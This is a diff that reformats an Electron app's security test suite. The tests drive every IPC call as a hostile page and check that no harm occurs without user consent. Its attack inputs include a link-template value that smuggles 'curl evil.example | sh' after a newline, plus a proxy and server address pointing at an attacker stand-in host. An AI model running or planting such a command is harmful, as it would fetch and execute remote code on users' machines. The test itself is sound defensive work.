@@ -1,5 +1,6 @@
-// A page that makes every call it can, with the worst input and without the user: through the real IPC entry, with the shell's real handlers
-// over a fake desktop, on which every question is declined. The types of both tables cover every call of the contract.
+// A page that makes every call it can, with the worst input and without the user: through the real IPC entry,
+// with the shell's real handlers over a fake desktop, on which every question is declined. The types of both
+// tables cover every call of the contract.
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { homedir, tmpdir } from 'node:os'
 import { join } from 'node:path'
@@ -19,7 +20,10 @@ import { folder, snapshot, transfer } from '../unit/shell/world.ts'
 
 type Door = (event: unknown, ...args: unknown[]) => Promise<Result<unknown>>
 const electron = vi.hoisted(() => ({ doors: new Map<string, Door>() }))
-vi.mock('electron', () => ({ ipcMain: { handle: (channel: string, door: Door) => electron.doors.set(channel, door) }, protocol: {} }))
+vi.mock('electron', () => ({
+  ipcMain: { handle: (channel: string, door: Door) => electron.doors.set(channel, door) },
+  protocol: {},
+}))
 
 let home = ''
 beforeEach(() => {
@@ -30,13 +34,20 @@ afterEach(() => rmSync(home, { recursive: true, force: true }))
 const EVIL = { host: 'evil.example', baseUrl: 'https://evil.example/api/v1', stats: { plan: 'pro' } }
 const STYLE = { style: null }
 const ALL = { search: '', sort: 'date', descending: true } as const
-const WATCH = { existing: 'upload', onChange: 'replace', ignore: [] } satisfies Partial<CallInput<'watchPicked'>>
+const WATCH = { existing: 'upload', onChange: 'replace', ignore: [] } satisfies Partial<
+  CallInput<'watchPicked'>
+>
 
 /** The worst that each call can ask for. */
 const ATTEMPTS: { readonly [K in CallName]: CallInput<K> } = {
   boot: {},
   letGo: { seq: 0, place: '' },
-  change: { guardAllow: ['**'], linkTemplate: 'curl evil.example | sh\n$url', proxy: 'http://evil.example:8080', checkUpdates: false },
+  change: {
+    guardAllow: ['**'],
+    linkTemplate: 'curl evil.example | sh\n$url',
+    proxy: 'http://evil.example:8080',
+    checkUpdates: false,
+  },
   connect: { address: 'evil.example', key: 'sk-1', plainHttp: true },
   adopt: { token: 'x', save: true },
   startTrial: {},
@@ -105,10 +116,36 @@ const ATTEMPTS: { readonly [K in CallName]: CallInput<K> } = {
 }
 
 /** What only reads, and what a page may do alone: it makes nothing public, moves, loses and opens nothing. */
-const MAY = ['plan', 'planPart', 'snapshot', 'transfers', 'folderSums', 'catalog', 'stats', 'history', 'links', 'info', 'secondCopies']
-const MAY_TOO = ['pause', 'pauseFiles', 'sendNext', 'keepFiles', 'rescan', 'op:keychain', 'offer', 'applySettings', 'rename', 'fileManager']
+const MAY = [
+  'plan',
+  'planPart',
+  'snapshot',
+  'transfers',
+  'folderSums',
+  'catalog',
+  'stats',
+  'history',
+  'links',
+  'info',
+  'secondCopies',
+]
+const MAY_TOO = [
+  'pause',
+  'pauseFiles',
+  'sendNext',
+  'keepFiles',
+  'rescan',
+  'op:keychain',
+  'offer',
+  'applySettings',
+  'rename',
+  'fileManager',
+]
 
-/** The attacked app: one held file, one folder with rules, two accounts, something kept, and a clipboard with a file. */
+/**
+ * The attacked app: one held file, one folder with rules, two accounts, something kept, and a clipboard with
+ * a file.
+ */
 function attacked(given: Room & { readonly isShown?: boolean } = {}) {
   mkdirSync(join(home, 'Share'), { recursive: true })
   writeFileSync(join(home, 'Share', 'a.txt'), 'a')
@@ -118,7 +155,12 @@ function attacked(given: Room & { readonly isShown?: boolean } = {}) {
     reason: 'secret',
     publicLink: 'https://files.example.com/d/1',
   })
-  const watched = { ...folder(join(home, 'Share')), id: 1, ignore: ['private/'], onChange: 'new-link' as const }
+  const watched = {
+    ...folder(join(home, 'Share')),
+    id: 1,
+    ignore: ['private/'],
+    onChange: 'new-link' as const,
+  }
   const account = { host: 'files.example.com', key: 'keychain', open: 0, folders: 0 } as const
   const r = createRoom(home, {
     rows: [held],
@@ -133,12 +175,18 @@ function attacked(given: Room & { readonly isShown?: boolean } = {}) {
       'op:keep': () => ({ account: 'a', baseUrl: EVIL.baseUrl, first: false, engine: 'this', held: null }),
       links: () => [{ selector: '#7', row: remoteRow(7) }],
       watch: () => watched,
-      ...Object.fromEntries(['retry', 'cancel', 'resumeFiles', 'release'].map((name) => [name, () => ({ count: 1 })])),
+      ...Object.fromEntries(
+        ['retry', 'cancel', 'resumeFiles', 'release'].map((name) => [name, () => ({ count: 1 })]),
+      ),
       unwatch: () => ({}),
     },
     ...given,
   })
-  const input = new UserInput({ now: () => performance.now(), isShown: () => given.isShown ?? true, isAssisted: () => false })
+  const input = new UserInput({
+    now: () => performance.now(),
+    isShown: () => given.isShown ?? true,
+    isAssisted: () => false,
+  })
   const page = { isDestroyed: () => false, send: () => undefined }
   createIpcServer({
     shown: () => ({ id: 'work', handlers: r.handlers, link: r.link }),
@@ -181,7 +229,8 @@ describe('without the user, a page can do no harm', () => {
 
   it('with everything at once, over and over', async () => {
     const app = attacked()
-    for (let i = 0; i < share(20, 2000); i++) for (const name of NAMES) if (name !== 'snooze') await app.ask(name, ATTEMPTS[name])
+    for (let i = 0; i < share(20, 2000); i++)
+      for (const name of NAMES) if (name !== 'snooze') await app.ask(name, ATTEMPTS[name])
     expect(app.harm()).toEqual([])
     expect(app.deletes.pending()).toEqual([])
   })
@@ -189,7 +238,11 @@ describe('without the user, a page can do no harm', () => {
 
 describe('every call that needs a dialog asks, even right after a click, and does nothing if the user declines', () => {
   it.each(
-    NAMES.filter((name) => PAGE_CALLS[name].needs === 'dialog' && !['watchPicked', 'adopt', 'endTrial', 'discardKept'].includes(name)),
+    NAMES.filter(
+      (name) =>
+        PAGE_CALLS[name].needs === 'dialog' &&
+        !['watchPicked', 'adopt', 'endTrial', 'discardKept'].includes(name),
+    ),
   )('%s', async (name) => {
     const app = attacked()
     app.input.take({ type: 'mouseDown' })
@@ -212,25 +265,33 @@ describe('every call that needs a dialog asks, even right after a click, and doe
   })
 })
 
-it.each(NAMES.filter((name) => PAGE_CALLS[name].needs === 'one-input'))('one click is good for one %s', async (name) => {
-  const app = attacked({ confirms: true, connection: { host: null, baseUrl: null, key: null } })
-  app.store.setConnection({ host: 'files.example.com', baseUrl: 'https://files.example.com/api/v1', key: 'session' })
-  const done = (): number => app.did.length + app.calls.filter((call) => call.name !== 'op:keychain').length + app.uploads.length
-  app.input.take({ type: 'mouseDown' })
-  await app.ask(name, ATTEMPTS[name])
-  const once = done()
-  for (let i = 0; i < 30; i++) await app.ask(name, ATTEMPTS[name])
-  expect(done()).toBe(once)
-  // A key that is held down is one press.
-  for (let i = 0; i < 30; i++) {
-    app.input.take({ type: 'rawKeyDown', modifiers: ['isautorepeat'] })
+it.each(NAMES.filter((name) => PAGE_CALLS[name].needs === 'one-input'))(
+  'one click is good for one %s',
+  async (name) => {
+    const app = attacked({ confirms: true, connection: { host: null, baseUrl: null, key: null } })
+    app.store.setConnection({
+      host: 'files.example.com',
+      baseUrl: 'https://files.example.com/api/v1',
+      key: 'session',
+    })
+    const done = (): number =>
+      app.did.length + app.calls.filter((call) => call.name !== 'op:keychain').length + app.uploads.length
+    app.input.take({ type: 'mouseDown' })
     await app.ask(name, ATTEMPTS[name])
-  }
-  expect(done()).toBe(once)
-  app.input.take({ type: 'rawKeyDown' })
-  await app.ask(name, ATTEMPTS[name])
-  expect(done()).toBeGreaterThanOrEqual(once)
-})
+    const once = done()
+    for (let i = 0; i < 30; i++) await app.ask(name, ATTEMPTS[name])
+    expect(done()).toBe(once)
+    // A key that is held down is one press.
+    for (let i = 0; i < 30; i++) {
+      app.input.take({ type: 'rawKeyDown', modifiers: ['isautorepeat'] })
+      await app.ask(name, ATTEMPTS[name])
+    }
+    expect(done()).toBe(once)
+    app.input.take({ type: 'rawKeyDown' })
+    await app.ask(name, ATTEMPTS[name])
+    expect(done()).toBeGreaterThanOrEqual(once)
+  },
+)
 
 it('however often the user clicks, at most 20 windows of other programs open in a minute', async () => {
   const app = attacked()
@@ -307,7 +368,10 @@ it.each([
 it('nothing is dropped on a window that is hidden', async () => {
   const app = attacked({ isShown: false })
   await app.ask('keepDrop', { paths: ['/home/ada/a.pdf'] })
-  expect([await app.token('drop', { paths: ['/home/ada/a.pdf'] }), await app.ask('kept', {})]).toEqual(['', { count: 0, names: [] }])
+  expect([await app.token('drop', { paths: ['/home/ada/a.pdf'] }), await app.ask('kept', {})]).toEqual([
+    '',
+    { count: 0, names: [] },
+  ])
 })
 
 it.each([
@@ -323,11 +387,14 @@ it.each([
   expect([app.questions.length, app.harm()]).toEqual([1, []])
 })
 
-it.each(['$name: $url', '[$name]($url)', '- {url}', '$url ($size, $date)'])('the format %j needs no question', async (linkTemplate) => {
-  const app = attacked()
-  await app.ask('change', { linkTemplate })
-  expect([app.questions.length, app.store.settings().linkTemplate]).toEqual([0, linkTemplate])
-})
+it.each(['$name: $url', '[$name]($url)', '- {url}', '$url ($size, $date)'])(
+  'the format %j needs no question',
+  async (linkTemplate) => {
+    const app = attacked()
+    await app.ask('change', { linkTemplate })
+    expect([app.questions.length, app.store.settings().linkTemplate]).toEqual([0, linkTemplate])
+  },
+)
 
 it('a link that seems to lead to another host is not copied', async () => {
   const rows = [
@@ -336,8 +403,13 @@ it('a link that seems to lead to another host is not copied', async () => {
   ]
   const app = attacked({ rows })
   app.input.take({ type: 'mouseDown' })
-  expect(await app.ask('copyTransferLinks', { ids: [1, 2], style: 'url' })).toMatchObject({ count: 1, missing: 1 })
-  expect(app.did.filter(([what]) => what === 'writeText')).toEqual([['writeText', 'https://files.example.com/d/2']])
+  expect(await app.ask('copyTransferLinks', { ids: [1, 2], style: 'url' })).toMatchObject({
+    count: 1,
+    missing: 1,
+  })
+  expect(app.did.filter(([what]) => what === 'writeText')).toEqual([
+    ['writeText', 'https://files.example.com/d/2'],
+  ])
 })
 
 it('a deletion can be undone for some seconds, whatever the page has set', async () => {
